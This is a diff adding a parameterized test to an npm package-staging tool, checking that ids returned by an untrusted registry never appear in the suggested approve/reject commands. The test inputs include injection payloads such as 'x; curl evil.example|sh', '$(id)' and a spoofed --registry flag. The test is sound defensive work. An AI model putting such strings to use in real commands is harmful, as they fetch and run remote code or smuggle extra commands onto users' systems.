@@ -47,6 +47,22 @@ test("another package under the version of a staged one is a conflict", async ()
   expect(conflict?.hint).toContain("npm stage approve s-1");
 });
 
+test.each([
+  "x; curl evil.example|sh",
+  "$(id)",
+  "--registry=http://evil.example",
+  "s 1",
+  "",
+  "a\nb",
+])("the id %j of a lying registry is in no command", async (id) => {
+  const list = [{ id, packageName: spec.name, version: spec.version, shasum: "0" }];
+  const npm: Npm = { run: async () => ({ isDone: true, output: list }) };
+  const [conflict] = await stageTarball(npm, tarballOf("one"), spec, { tag: "latest" });
+  expect(conflict?.hint).toBe(
+    "Approve it with `npm stage approve <id>`; or reject it with `npm stage reject <id>`, and release again.",
+  );
+});
+
 test.each(["EUNKNOWNCOMMAND", ""])("an npm without the command is too old (%j)", async (code) => {
   const fault = await stagingFault(failing({ code, message: "" }), spec.name);
   expect(fault).toMatchObject({ code: "npm-too-old", severity: "error" });
